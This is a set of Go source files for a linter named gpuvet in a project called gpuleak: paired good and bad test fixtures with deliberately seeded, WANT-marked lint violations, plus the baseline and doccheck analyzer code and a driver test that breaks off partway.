// Hits reads an unguarded field without the lock.
func (c *counter) Hits() int { return c.hits }

// nLocked is a helper invoked with mu already held.
func (c *counter) nLocked() int {
	return c.n //gpuvet:ignore lockcheck -- held by caller
}

type embedded struct {
	sync.Mutex
	n int
}

// Bump uses the promoted Lock method, which counts as touching the mutex.
func (e *embedded) Bump() {
	e.Lock()
	defer e.Unlock()
	e.n++
}
