package lckbad

import (
	"math/rand"
	"sync"
)

// pool is the classic worker-pool seeding hazard: one *rand.Rand shared
// by every worker, guarded by mu — and a task body that draws from it
// without the lock. Besides the data race, scheduling order would leak
// into the stream and break run-to-run determinism.
type pool struct {
	mu  sync.Mutex
	rng *rand.Rand
}

// runTask races: it draws from the shared generator without locking mu.
func (p *pool) runTask(results []float64, i int) {
	results[i] = p.rng.Float64() // WANT
}

// Draw is correct and must not be flagged.
func (p *pool) Draw() float64 {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.rng.Float64()
}
