// Package lckbad seeds a lockcheck violation: a method mutating a
// mu-guarded field without taking the lock.
package lckbad

import "sync"

type counter struct {
	mu sync.Mutex
	n  int
	by map[string]int
}

// Bump races: it writes n without locking mu.
func (c *counter) Bump(who string) {
	c.n++ // WANT
	c.by[who]++
}

// Get is correct and must not be flagged.
func (c *counter) Get() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.n
}
