// This comment is separated from the package clause by a blank line, so
// it is NOT a package comment and the package clause must be reported.
// Lines marked WANT must be reported.

package dcbad // WANT

// Runs the thing, but does not start with the symbol name. // WANT
func Exported() {}

func Undocumented() {} // WANT

// Documented is fine.
func Documented() {}

type Widget struct{} // WANT

// The comment starts with an article but the wrong word. // WANT
type Gadget struct{}

// Gizmo is documented; its exported method below is not.
type Gizmo struct{}

func (Gizmo) Poke() {} // WANT

// internal helpers need no docs.
func helper() {}

type sprocket struct{}

// Spin is reachable only through the unexported sprocket: skipped.
func (sprocket) Spin() {}

var Loose = 1 // WANT

const Solo = 2 // WANT
