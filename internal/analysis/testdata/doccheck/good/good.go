// Package dcgood exercises every documented shape doccheck must accept:
// package comments, name-first function docs, article-prefixed type docs,
// block-documented const/var groups and trailing spec comments.
package dcgood

// Exported does its one job.
func Exported() {}

// A Widget is a thing; the leading article is idiomatic for types.
type Widget struct{}

// Poke pokes the widget.
func (Widget) Poke() {}

// Tunables for the fixture; one block comment covers every name.
var (
	Loose = 1
	Tight = 2
)

const (
	// Alpha is documented per spec.
	Alpha = iota
	Beta  // Beta rides on a trailing comment.
	gamma
)

// quiet is unexported: no doc required.
func quiet() {}
