// Package szbad seeds ioctlsize violations: request codes whose size bits
// disagree with the struct they marshal.
package szbad

func iowr(nr, size uint32) uint32 {
	return 3<<30 | size<<16 | 0x09<<8 | nr
}

// Frob marshals to 16 bytes (4 + pad 4 + 8) but the code claims 12.
type Frob struct {
	A uint32
	B uint64
}

// Batch marshals to 16 bytes (ptr 8 + count 4 + 4) but the code claims 24.
type Batch struct {
	Items []uint64
	Flags uint32
}

// Weird cannot be sized at all: maps have no kernel ABI layout.
type Weird struct {
	M map[string]int
}

var (
	IoctlFrob  = iowr(0x10, 12) // WANT
	IoctlBatch = iowr(0x11, 24) // WANT
	IoctlWeird = iowr(0x12, 8)  // WANT
)
