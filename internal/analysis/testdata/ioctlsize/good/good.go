// Package szgood declares request codes whose sizes match their structs
// under the 64-bit kernel ABI.
package szgood

func iowr(nr, size uint32) uint32 {
	return 3<<30 | size<<16 | 0x09<<8 | nr
}

// Frob is 4 + pad 4 + 8 = 16 bytes.
type Frob struct {
	A uint32
	B uint64
}

// Batch is ptr 8 + count 4 + 4 = 16 bytes.
type Batch struct {
	Items []uint64
	Flags uint32
}

// Padded mirrors the msm_kgsl.h __pad[2] tail convention: 4 + 4 + 8 = 16.
type Padded struct {
	GroupID   uint32
	Countable uint32
	Pad       [2]uint32
}

var (
	IoctlFrob   = iowr(0x10, 16)
	IoctlBatch  = iowr(0x11, 16)
	IoctlPadded = iowr(0x12, 16)
	// IoctlOpaque has no matching struct type, so it is unverifiable.
	IoctlOpaque = iowr(0x13, 40)
)
