// Package habad mirrors the sampler's tick path with a deliberate
// allocation smuggled into the loop — the negative test pinning that
// hotalloc fails the build when the hot path grows a heap allocation
// beyond its committed budget.
package habad

// Sample is one tick's counter reading.
type Sample struct{ Vals [4]uint64 }

var sink []uint64

// CollectTick mirrors (*Sampler).CollectContext's per-tick work. The
// fixture budget allows exactly one escape site (the returned trace);
// the smuggled make() inside the loop is the regression.
func CollectTick(n int) *Sample { // WANT
	s := &Sample{}
	for i := 0; i < n; i++ {
		scratch := make([]uint64, 4)
		scratch[0] = uint64(i)
		sink = scratch
		s.Vals[0] += scratch[0]
	}
	return s
}
