// Package hagood mirrors the sampler's tick path at its committed
// allocation budget: the only escape site is the returned sample.
package hagood

// Sample is one tick's counter reading.
type Sample struct{ Vals [4]uint64 }

// CollectTick mirrors (*Sampler).CollectContext's per-tick work with a
// clean loop: no per-tick heap allocation.
func CollectTick(n int) *Sample {
	s := &Sample{}
	for i := 0; i < n; i++ {
		s.Vals[0] += uint64(i)
	}
	return s
}
