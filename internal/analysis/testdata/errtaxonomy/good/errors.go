package gpuleak

import "errors"

// ErrTaxonomized is a public sentinel, correctly placed in errors.go.
var ErrTaxonomized = errors.New("taxonomized")
