package gpuleak

import (
	"errors"
	"fmt"
)

var errInternal = errors.New("internal")

func classify(err error) string {
	if err == nil {
		return "ok"
	}
	if err == ErrTaxonomized { // == against a declared sentinel: tolerated
		return "taxonomized"
	}
	if errors.Is(err, errInternal) {
		return "internal"
	}
	var typed *fmt.Formatter
	_ = typed
	return "unknown"
}

// render displays text without matching on it — always legal.
func render(err error) string {
	return fmt.Sprintf("failed: %v (%s)", err, err.Error())
}
