package gpuleak

import (
	"errors"
	"strings"
)

var errSentinel = errors.New("sentinel")

// ErrMisplaced is an exported error declared outside errors.go.
var ErrMisplaced = errors.New("misplaced") // WANT

func matchText(err error) bool {
	if err.Error() == "file not found" { // WANT
		return true
	}
	return strings.Contains(err.Error(), "busy") // WANT
}

func prefixText(err error) bool {
	return strings.HasPrefix(err.Error(), "attack:") // WANT
}

func compareWrapped(err, other error) bool {
	return err == other // WANT
}

func fineChecks(err error) bool {
	if err == nil {
		return false
	}
	if err == errSentinel {
		return true
	}
	return errors.Is(err, errSentinel)
}
