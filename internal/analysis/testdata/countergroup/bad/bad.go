// Package cgbad seeds countergroup violations: raw msm_kgsl.h IDs where
// the adreno constants are mandatory.
package cgbad

import (
	"gpuleak/internal/adreno"
	"gpuleak/internal/kgsl"
)

// Keys builds counter keys from magic numbers.
func Keys() []adreno.CounterKey {
	return []adreno.CounterKey{
		{0x19, 13}, // WANT
		{Group: 0x7, Countable: adreno.RASSuperTiles}, // WANT
		{Group: adreno.GroupVPC, Countable: 9},        // WANT
	}
}

// Get reserves a counter with a magic group ID.
func Get() kgsl.PerfcounterGet {
	return kgsl.PerfcounterGet{GroupID: 0x5, Countable: adreno.VPCSPComponents} // WANT
}

// Name looks up a group by magic ID.
func Name() string {
	return adreno.GroupName(0x19) // WANT
}
