// Package cggood uses the adreno constants correctly: named group IDs
// everywhere, raw countables only where no named constant exists.
package cggood

import (
	"gpuleak/internal/adreno"
	"gpuleak/internal/kgsl"
)

// Keys builds counter keys the sanctioned way.
func Keys() []adreno.CounterKey {
	return []adreno.CounterKey{
		{Group: adreno.GroupLRZ, Countable: adreno.LRZFullTiles8x8},
		{Group: adreno.GroupLRZ, Countable: 17}, // no named constant for 17: legal
	}
}

// Get reserves a counter with named constants.
func Get() kgsl.PerfcounterGet {
	return kgsl.PerfcounterGet{GroupID: adreno.GroupVPC, Countable: adreno.VPCSPComponents}
}

// Probe deliberately asks for an unknown group and says so.
func Probe() string {
	return adreno.GroupName(0x42) //gpuvet:ignore countergroup -- fixture: probing an unknown group on purpose
}

// Dynamic group IDs are not constants and are never flagged.
func Dynamic(g uint32) []uint32 {
	return adreno.CountersInGroup(g)
}
