// Package feqbad seeds floateq violations inside a distance-math package
// path (the fixture loads under gpuleak/internal/attack).
package feqbad

// Equal compares accumulated floats exactly.
func Equal(a, b float64) bool {
	return a == b // WANT
}

type vec [3]float64

// SameVec compares float arrays exactly.
func SameVec(a, b vec) bool {
	return a != b // WANT
}

type centroid struct {
	v vec
	w float64
}

// SameCentroid compares a float-bearing struct exactly.
func SameCentroid(a, b centroid) bool {
	return a == b // WANT
}

// Ints may be compared exactly.
func Ints(a, b int) bool { return a == b }
