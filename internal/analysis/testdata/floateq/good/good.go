// Package feqgood holds only legal comparisons (loaded under
// gpuleak/internal/stats).
package feqgood

import "math"

// Close compares with an explicit tolerance.
func Close(a, b float64) bool {
	return math.Abs(a-b) < 1e-9
}

// Unset tests a non-negative sentinel with an ordering, not equality.
func Unset(w float64) bool { return w <= 0 }

// Runes compares integers exactly, which is fine.
func Runes(a, b rune) bool { return a == b }
