package cfbad

import "context"

func doCtx(ctx context.Context) error { _ = ctx; return nil }

// Work is documented but multi-statement, so it is not a legacy wrapper:
// the Background call detaches doCtx from cancellation.
func Work() error {
	ctx := context.Background() // WANT
	return doCtx(ctx)
}

func todo() error {
	return doCtx(context.TODO()) // WANT
}

func undocumentedWrapper() error {
	return doCtx(context.Background()) // WANT
}

// Fetch is the context-free variant.
func Fetch() error { return nil }

// FetchContext is the context-aware variant.
func FetchContext(ctx context.Context) error { _ = ctx; return nil }

// Holder already holds a context but calls the context-free variant.
func Holder(ctx context.Context) error {
	_ = ctx
	return Fetch() // WANT
}

// HolderBackground already holds a context but mints a fresh root.
func HolderBackground(ctx context.Context) error {
	_ = ctx
	return FetchContext(context.Background()) // WANT
}

// T is a receiver with a context-aware method pair.
type T struct{}

// Run is the context-free variant.
func (t *T) Run() error { return nil }

// RunContext is the context-aware variant.
func (t *T) RunContext(ctx context.Context) error { _ = ctx; return nil }

// MethodHolder drops its context on a method call.
func MethodHolder(ctx context.Context, t *T) error {
	_ = ctx
	return t.Run() // WANT
}
