package cfgood

import "context"

func doCtx(ctx context.Context) error { _ = ctx; return nil }

// Do is the documented legacy wrapper: single statement, Background
// passed straight into a context-aware callee.
func Do() error { return doCtx(context.Background()) }

// Options carries an optional context, resolved by Context below.
type Options struct {
	// Ctx, when non-nil, cancels the run.
	Ctx context.Context
}

// Context resolves the configured context (Background when unset) — the
// documented defaulting-resolver shape.
func (o Options) Context() context.Context {
	if o.Ctx != nil {
		return o.Ctx
	}
	return context.Background()
}

// Threaded passes the context it holds all the way down.
func Threaded(ctx context.Context) error {
	return doCtx(ctx)
}

// Fetch is the context-free variant.
func Fetch() error { return nil }

// FetchContext is the context-aware variant, used by holders.
func FetchContext(ctx context.Context) error { _ = ctx; return nil }

// HolderThreads calls the context-aware sibling with its own context.
func HolderThreads(ctx context.Context) error {
	return FetchContext(ctx)
}

// NoContextCaller holds no context, so the context-free variant is fine.
func NoContextCaller() error {
	return Fetch()
}
