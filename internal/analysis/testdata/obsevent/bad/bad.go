// Package oebad seeds obsevent violations: unregistered names, lazy
// registrations, inline name expressions, and wall-clock timestamps.
// Lines marked WANT must be reported.
package oebad

import (
	"time"

	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
)

var evOK = obs.NewName("oebad.ok")

// Convert mints a name without registering it.
func Convert(tr *obs.Tracer, at sim.Time) {
	tr.Emit(at, obs.Name("oebad.raw")) // WANT
}

// Lazy registers a name on first call, so the vocabulary depends on the
// execution path.
func Lazy(tr *obs.Tracer, at sim.Time) {
	ev := obs.NewName("oebad.lazy") // WANT
	tr.Emit(at, ev)                 // WANT
}

// WallClock smuggles a wall-clock duration into the timestamp.
func WallClock(tr *obs.Tracer, d time.Duration) {
	tr.Emit(sim.Time(d.Microseconds()), evOK) // WANT
	sp := tr.Start(sim.Time(d), evOK)         // WANT
	sp.End(0)
}

// MetricLiteral names metrics with inline strings, scattering the
// namespace across call sites instead of one declared block.
func MetricLiteral(m *obs.Metrics, kind string, v float64) {
	m.Add("oebad.count", 1)                // WANT
	m.Observe("oebad.lat", v)              // WANT
	m.ObserveExemplar("oebad.lat2", v, "") // WANT
	m.Add("oebad."+kind, 1)                // WANT
}
