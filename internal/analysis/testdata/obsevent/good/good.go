// Package oegood shows the compliant telemetry idiom: names registered in
// a package-level var block, timestamps flowing through sim.Time only.
// No line may be reported.
package oegood

import (
	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
)

// All event names this package can emit, registered once at init.
var (
	evTick = obs.NewName("oegood.tick")
	evSpan = obs.NewName("oegood.span")
)

// Tick emits with a registered name and a sim-time stamp.
func Tick(tr *obs.Tracer, at sim.Time) {
	tr.Emit(at, evTick, obs.Int("n", 1))
}

// Span derives its timestamps from sim.Time arithmetic — conversions of
// sim-domain integers are fine.
func Span(tr *obs.Tracer, at sim.Time, n int) {
	sp := tr.Start(at, evSpan)
	sp.End(at + sim.Time(n)*sim.Millisecond)
}

// Suppressed carries a justified waiver.
func Suppressed(tr *obs.Tracer, at sim.Time) {
	tr.Emit(at, obs.Name("oegood.raw")) //gpuvet:ignore obsevent -- replaying a parsed stream
}

// Metric names follow the same discipline: declared constants, one block
// per package.
const (
	mTicks = "oegood.ticks"
	mBatch = "oegood.batch"
)

// Count records through constants directly.
func Count(m *obs.Metrics, n int) {
	m.Add(mTicks, int64(n))
	m.ObserveExemplar(mBatch, float64(n), "")
	_ = m.Counter(mTicks)
}

// metricFor maps a runtime discriminant onto the constant namespace; the
// call site below carries no literal, so it passes.
func metricFor(n int) string {
	if n > 1 {
		return mBatch
	}
	return mTicks
}

// CountMapped records through the mapping helper.
func CountMapped(m *obs.Metrics, n int) {
	m.Observe(metricFor(n), float64(n))
}
