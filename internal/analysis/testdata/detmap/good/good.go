package dmgood

import (
	"fmt"
	"io"
	"sort"
)

// SortedKeys collects, sorts, then returns — the canonical idiom.
func SortedKeys(m map[string]int) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// PrintSorted serializes from the sorted slice, not the map.
func PrintSorted(w io.Writer, m map[string]int) {
	for _, k := range SortedKeys(m) {
		fmt.Fprintf(w, "%s=%d\n", k, m[k])
	}
}

// Pair is one entry for SortedPairs.
type Pair struct {
	K string
	V int
}

// SortedPairs sorts with sort.Slice after collecting.
func SortedPairs(m map[string]int) []Pair {
	var out []Pair
	for k, v := range m {
		out = append(out, Pair{k, v})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].K < out[j].K })
	return out
}

// Sum is an order-independent fold: no finding.
func Sum(m map[string]int) int {
	total := 0
	for _, v := range m {
		total += v
	}
	return total
}

// Invert builds another map: ordering cannot leak.
func Invert(m map[string]int) map[int]string {
	out := make(map[int]string, len(m))
	for k, v := range m {
		out[v] = k
	}
	return out
}

// PerEntry appends only to loop-local scratch: ordering stays local.
func PerEntry(m map[string][]int) int {
	n := 0
	for _, vs := range m {
		var local []int
		for _, v := range vs {
			local = append(local, v)
		}
		n += len(local)
	}
	return n
}
