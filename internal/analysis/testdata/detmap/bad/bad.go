package dmbad

import (
	"fmt"
	"io"
	"strings"
)

// PrintAll serializes entries in random map order.
func PrintAll(w io.Writer, m map[string]int) {
	for k, v := range m {
		fmt.Fprintf(w, "%s=%d\n", k, v) // WANT
	}
}

// Keys accumulates in random order and never sorts before returning.
func Keys(m map[string]int) []string {
	var out []string
	for k := range m {
		out = append(out, k) // WANT
	}
	return out
}

// Build renders through a strings.Builder in random order.
func Build(m map[string]bool) string {
	var b strings.Builder
	for k := range m {
		b.WriteString(k) // WANT
	}
	return b.String()
}

// Rows feeds a report table in random order.
type table struct{ rows [][]string }

func (t *table) AddRow(cells ...string) { t.rows = append(t.rows, cells) }

// Report emits table rows straight out of a map range.
func Report(t *table, m map[string]float64) {
	for k, v := range m {
		t.AddRow(k, fmt.Sprint(v)) // WANT
	}
}
