// Package drgood follows the defense-plane registration discipline: the
// implementation is constructed at package initialization (package-level
// var and init body), registered from init, and consumers resolve
// defenses through the registry.
package drgood

import (
	"gpuleak/internal/defense"
	"gpuleak/internal/victim"
)

// vdef is a minimal defense implementation.
type vdef struct{ name string }

func (d vdef) Name() string                     { return d.name }
func (d vdef) Doc() string                      { return "fixture defense" }
func (d vdef) Channels() []string               { return []string{"kgsl"} }
func (d vdef) Overhead(strength float64) float64 { return 0 }
func (d vdef) Arm(sess *victim.Session, strength float64, seed int64) (defense.Instance, error) {
	return nil, nil
}

// Package-level construction runs at initialization: allowed.
var def = vdef{name: "drgood.def"}

func init() {
	defense.Register(def)
	// Constructing inline at the registration site is the canonical shape.
	defense.Register(vdef{name: "drgood.alt"})
}

// Resolve goes through the registry, never constructing directly.
func Resolve(name string) (defense.Policy, error) {
	return defense.Get(name)
}
