// Package drbad seeds defensereg violations: lazy registration from
// ordinary functions, direct construction of defense implementations
// outside package initialization, and registration deferred into a
// function literal. Lines marked WANT must be reported.
package drbad

import (
	"gpuleak/internal/defense"
	"gpuleak/internal/victim"
)

// vdef implements defense.Policy with value receivers.
type vdef struct{ name string }

func (d vdef) Name() string                     { return d.name }
func (d vdef) Doc() string                      { return "fixture defense" }
func (d vdef) Channels() []string               { return []string{"kgsl"} }
func (d vdef) Overhead(strength float64) float64 { return 0 }
func (d vdef) Arm(sess *victim.Session, strength float64, seed int64) (defense.Instance, error) {
	return nil, nil
}

// pdef implements defense.Policy with pointer receivers.
type pdef struct{ n int }

func (d *pdef) Name() string                     { return "drbad.p" }
func (d *pdef) Doc() string                      { return "fixture defense" }
func (d *pdef) Channels() []string               { return []string{"kgsl"} }
func (d *pdef) Overhead(strength float64) float64 { return 0 }
func (d *pdef) Arm(sess *victim.Session, strength float64, seed int64) (defense.Instance, error) {
	return nil, nil
}

// Package-level construction is initialization-time: allowed.
var defd = vdef{name: "drbad.def"}

func init() {
	defense.Register(defd)
}

// Lazy registers on first call, so the advertised defense set depends on
// the execution path instead of the import graph.
func Lazy(name string) defense.Policy {
	d := vdef{name: name} // WANT
	defense.Register(d)   // WANT
	return d
}

// Direct hands out a defense the registry has never seen.
func Direct() defense.Policy {
	return &pdef{n: 1} // WANT
}

// lazyhook defers registration into a function literal: the var runs at
// initialization, the body does not.
var lazyhook = func() {
	defense.Register(defd) // WANT
}
