// Package stgood holds only legal time usage: pure duration conversions
// and one justified, suppressed wall-clock read.
package stgood

import "time"

// Micros converts a duration without reading any clock.
func Micros(d time.Duration) int64 { return d.Microseconds() }

// Bench measures the host's own computation cost, which is genuinely
// wall-clock and carries a suppression.
func Bench(f func()) time.Duration {
	t0 := time.Now() //gpuvet:ignore simtime -- fixture: measuring host compute cost
	f()
	//gpuvet:ignore simtime -- fixture: standalone form applies to the next line
	return time.Since(t0)
}
