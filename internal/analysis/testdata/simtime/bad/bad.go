// Package stbad seeds simtime violations: wall-clock reads inside a
// (simulated) internal package. Lines marked WANT must be reported.
package stbad

import "time"

// Stamp reads the wall clock twice and sleeps once.
func Stamp() float64 {
	t0 := time.Now()                // WANT
	time.Sleep(time.Millisecond)    // WANT
	return time.Since(t0).Seconds() // WANT
}
