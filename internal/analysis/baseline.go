package analysis

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
	"sort"
)

// Baseline support: `gpuvet -baseline gpuvet-baseline.json` only fails
// on findings absent from the committed baseline, so a new analyzer can
// land with its existing debt recorded while still gating every *new*
// violation. Baseline keys deliberately ignore line numbers — unrelated
// edits move code — and match on (check, file, message) with an
// occurrence count, so two identical findings in one file need two
// baseline entries.

// BaselineSchema is the baseline file's schema identifier.
const BaselineSchema = "gpuvet-baseline/v1"

// Baseline is the parsed gpuvet-baseline.json.
type Baseline struct {
	Schema string `json:"schema"`
	// Note is free-form documentation carried in the file.
	Note string `json:"note,omitempty"`
	// Findings are the accepted legacy findings.
	Findings []BaselineFinding `json:"findings"`
}

// BaselineFinding is one accepted legacy finding.
type BaselineFinding struct {
	Check   string `json:"check"`
	File    string `json:"file"`
	Message string `json:"message"`
	// Count is how many identical (check, file, message) findings the
	// baseline absorbs; 0 means 1.
	Count int `json:"count,omitempty"`
}

func (f BaselineFinding) key() string {
	return f.Check + "\x00" + f.File + "\x00" + f.Message
}

// LoadBaseline reads and validates a baseline file.
func LoadBaseline(path string) (*Baseline, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var b Baseline
	if err := json.Unmarshal(data, &b); err != nil {
		return nil, fmt.Errorf("analysis: parsing %s: %w", path, err)
	}
	if b.Schema != BaselineSchema {
		return nil, fmt.Errorf("analysis: %s has schema %q, want %q", path, b.Schema, BaselineSchema)
	}
	return &b, nil
}

// Filter splits findings into those absorbed by the baseline and the new
// ones that must gate. moduleRoot relativizes filenames to match the
// baseline's stored form.
func (b *Baseline) Filter(moduleRoot string, diags []Diagnostic) (newDiags, absorbed []Diagnostic) {
	budget := map[string]int{}
	for _, f := range b.Findings {
		n := f.Count
		if n <= 0 {
			n = 1
		}
		budget[f.key()] += n
	}
	for _, d := range diags {
		k := BaselineFinding{
			Check:   d.Check,
			File:    relativeURI(moduleRoot, d.Pos.Filename),
			Message: d.Message,
		}.key()
		if budget[k] > 0 {
			budget[k]--
			absorbed = append(absorbed, d)
		} else {
			newDiags = append(newDiags, d)
		}
	}
	return newDiags, absorbed
}

// WriteBaseline renders the findings as a fresh baseline file
// (`gpuvet -write-baseline`): deterministic order, duplicates folded
// into counts.
func WriteBaseline(w io.Writer, moduleRoot string, diags []Diagnostic) error {
	byKey := map[string]*BaselineFinding{}
	var keys []string
	for _, d := range diags {
		f := BaselineFinding{
			Check:   d.Check,
			File:    relativeURI(moduleRoot, d.Pos.Filename),
			Message: d.Message,
		}
		k := f.key()
		if prev, ok := byKey[k]; ok {
			prev.Count++
			continue
		}
		f.Count = 1
		byKey[k] = &f
		keys = append(keys, k)
	}
	sort.Strings(keys)
	b := Baseline{
		Schema: BaselineSchema,
		Note:   "Accepted legacy findings; gpuvet -baseline fails only on findings not listed here. Regenerate with gpuvet -write-baseline.",
	}
	b.Findings = make([]BaselineFinding, 0, len(keys))
	for _, k := range keys {
		f := *byKey[k]
		if f.Count == 1 {
			f.Count = 0 // omitempty: singletons stay terse
		}
		b.Findings = append(b.Findings, f)
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(&b)
}
