package analysis

import (
	"go/ast"
	"go/token"
	"strings"
)

// DocCheck enforces godoc coverage on the repository's documented surface:
// the gpuleak facade plus the packages whose doc comments external callers
// and operators read (serve, obs, fault, defense). Every exported symbol
// needs a doc comment, functions and types must follow the godoc
// convention of starting with the symbol's name (articles allowed for
// types), and each package needs a package comment. Grouped const/var
// blocks may share one block-level doc comment, matching stdlib idiom.
//
// The check is deliberately scoped: internal simulation packages evolve
// quickly and their contracts live in tests; the facade and the serving
// layer are the API whose docs are the contract.
var DocCheck = &Analyzer{
	Name:     "doccheck",
	Category: "docs",
	Doc:      "exported symbols on the documented surface (facade, serve, obs, fault, defense) must carry godoc comments",
	Applies:  isDocumentedSurface,
	Run:      runDocCheck,
}

// docSurface lists the packages whose godoc is treated as API contract.
var docSurface = []string{
	"gpuleak",
	"gpuleak/internal/serve",
	"gpuleak/internal/obs",
	"gpuleak/internal/fault",
	"gpuleak/internal/defense",
}

func isDocumentedSurface(pkgPath string) bool {
	for _, p := range docSurface {
		if pkgPath == p {
			return true
		}
	}
	return false
}

func runDocCheck(p *Pass) {
	havePkgDoc := false
	var firstPkgClause token.Pos
	for _, file := range p.Pkg.Files {
		if file.Doc != nil {
			havePkgDoc = true
		}
		if firstPkgClause == token.NoPos || file.Package < firstPkgClause {
			firstPkgClause = file.Package
		}
		for _, decl := range file.Decls {
			switch d := decl.(type) {
			case *ast.FuncDecl:
				checkFuncDoc(p, d)
			case *ast.GenDecl:
				checkGenDoc(p, d)
			}
		}
	}
	if !havePkgDoc && firstPkgClause != token.NoPos {
		p.Reportf(firstPkgClause, "package %s has no package comment: document what the package provides and its determinism contract", p.Pkg.Types.Name())
	}
}

// checkFuncDoc validates one exported function or method. Methods on
// unexported receiver types are skipped: they are only reachable through
// the (documented) interfaces or constructors that expose them.
func checkFuncDoc(p *Pass, d *ast.FuncDecl) {
	if !d.Name.IsExported() {
		return
	}
	if d.Recv != nil && !exportedRecv(d.Recv) {
		return
	}
	kind := "function"
	if d.Recv != nil {
		kind = "method"
	}
	if d.Doc == nil {
		p.Reportf(d.Name.Pos(), "exported %s %s is missing a doc comment", kind, d.Name.Name)
		return
	}
	if !docStartsWith(d.Doc.Text(), d.Name.Name, false) {
		p.Reportf(d.Doc.Pos(), "doc comment for %s %s should start with %q (godoc convention)", kind, d.Name.Name, d.Name.Name)
	}
}

// checkGenDoc validates a top-level type/const/var declaration. A grouped
// const/var block with a block-level doc comment documents every spec in
// it; otherwise each exported spec needs its own doc or trailing comment.
func checkGenDoc(p *Pass, d *ast.GenDecl) {
	for _, spec := range d.Specs {
		switch s := spec.(type) {
		case *ast.TypeSpec:
			if !s.Name.IsExported() {
				continue
			}
			doc := s.Doc
			if doc == nil {
				doc = d.Doc
			}
			if doc == nil {
				p.Reportf(s.Name.Pos(), "exported type %s is missing a doc comment", s.Name.Name)
				continue
			}
			if !docStartsWith(doc.Text(), s.Name.Name, true) {
				p.Reportf(doc.Pos(), "doc comment for type %s should start with %q (articles A/An/The allowed)", s.Name.Name, s.Name.Name)
			}
		case *ast.ValueSpec:
			// Trailing comments document a spec only inside grouped blocks
			// (the iota idiom); a standalone declaration needs a leading doc.
			if d.Doc != nil || s.Doc != nil || (d.Lparen.IsValid() && s.Comment != nil) {
				continue
			}
			for _, name := range s.Names {
				if name.IsExported() {
					p.Reportf(name.Pos(), "exported %s %s is missing a doc comment (document the spec or the enclosing block)", strings.ToLower(d.Tok.String()), name.Name)
				}
			}
		}
	}
}

// exportedRecv reports whether a receiver names an exported type.
func exportedRecv(recv *ast.FieldList) bool {
	if len(recv.List) == 0 {
		return false
	}
	t := recv.List[0].Type
	for {
		switch e := t.(type) {
		case *ast.StarExpr:
			t = e.X
		case *ast.IndexExpr:
			t = e.X
		case *ast.IndexListExpr:
			t = e.X
		case *ast.Ident:
			return e.IsExported()
		default:
			return false
		}
	}
}

// docStartsWith reports whether a doc comment's first word is the symbol
// name, optionally allowing a leading article ("A Foo ..." for types).
// Directive-only comments (//go:..., //gpuvet:...) never satisfy it.
func docStartsWith(text, name string, allowArticle bool) bool {
	fields := strings.Fields(text)
	if len(fields) == 0 {
		return false
	}
	if allowArticle && len(fields) > 1 {
		switch fields[0] {
		case "A", "An", "The":
			fields = fields[1:]
		}
	}
	// "Deprecated:" paragraphs and quoted names still count as starting
	// with the symbol.
	return strings.TrimRight(fields[0], ":,.") == name ||
		strings.Trim(fields[0], "\"'`") == name
}

func init() { Register(DocCheck) }
