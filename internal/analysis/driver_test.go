package analysis

import (
	"bytes"
	"encoding/json"
	"go/token"
	"strings"
	"testing"
)

// Driver-plane tests: the registry's canonical ordering, SARIF export,
// baseline filtering/regeneration, and the waiver-budget ledger. The
// fixture tests in checks_test.go cover the analyzers themselves.

func fakeDiags() []Diagnostic {
	return []Diagnostic{
		{Pos: token.Position{Filename: "/mod/a.go", Line: 3, Column: 7}, Check: "simtime", Message: "no wall clocks"},
		{Pos: token.Position{Filename: "/mod/b.go", Line: 9, Column: 1}, Check: "detmap", Message: "sort before emit"},
		{Pos: token.Position{Filename: "/mod/b.go", Line: 20, Column: 1}, Check: "detmap", Message: "sort before emit"},
	}
}

func TestRegistryCanonicalOrder(t *testing.T) {
	all := DefaultAnalyzers()
	if len(all) != len(canonicalOrder) {
		t.Fatalf("registry holds %d analyzers, canonical order lists %d", len(all), len(canonicalOrder))
	}
	for i, a := range all {
		if a.Name != canonicalOrder[i] {
			t.Errorf("analyzer %d is %q, canonical order says %q", i, a.Name, canonicalOrder[i])
		}
		if a.Doc == "" || a.Category == "" || a.Severity == "" {
			t.Errorf("analyzer %q is missing metadata: doc=%q category=%q severity=%q", a.Name, a.Doc, a.Category, a.Severity)
		}
		if got, ok := ByName(a.Name); !ok || got != a {
			t.Errorf("ByName(%q) did not return the registered analyzer", a.Name)
		}
	}
}

func TestWriteSARIF(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteSARIF(&buf, "/mod", DefaultAnalyzers(), fakeDiags()); err != nil {
		t.Fatal(err)
	}
	var log struct {
		Version string `json:"version"`
		Runs    []struct {
			Tool struct {
				Driver struct {
					Name  string `json:"name"`
					Rules []struct {
						ID string `json:"id"`
					} `json:"rules"`
				} `json:"driver"`
			} `json:"tool"`
			Results []struct {
				RuleID    string `json:"ruleId"`
				RuleIndex int    `json:"ruleIndex"`
				Locations []struct {
					PhysicalLocation struct {
						ArtifactLocation struct {
							URI       string `json:"uri"`
							URIBaseID string `json:"uriBaseId"`
						} `json:"artifactLocation"`
						Region struct {
							StartLine int `json:"startLine"`
						} `json:"region"`
					} `json:"physicalLocation"`
				} `json:"locations"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal(buf.Bytes(), &log); err != nil {
		t.Fatalf("emitted SARIF does not parse: %v", err)
	}
	if log.Version != "2.1.0" {
		t.Errorf("version = %q, want 2.1.0", log.Version)
	}
	run := log.Runs[0]
	if run.Tool.Driver.Name != "gpuvet" {
		t.Errorf("driver name = %q", run.Tool.Driver.Name)
	}
	if len(run.Tool.Driver.Rules) != len(canonicalOrder) {
		t.Errorf("rule table has %d rules, want %d", len(run.Tool.Driver.Rules), len(canonicalOrder))
	}
	if len(run.Results) != 3 {
		t.Fatalf("results = %d, want 3", len(run.Results))
	}
	first := run.Results[0]
	if first.RuleID != "simtime" {
		t.Errorf("first result ruleId = %q", first.RuleID)
	}
	if run.Tool.Driver.Rules[first.RuleIndex].ID != "simtime" {
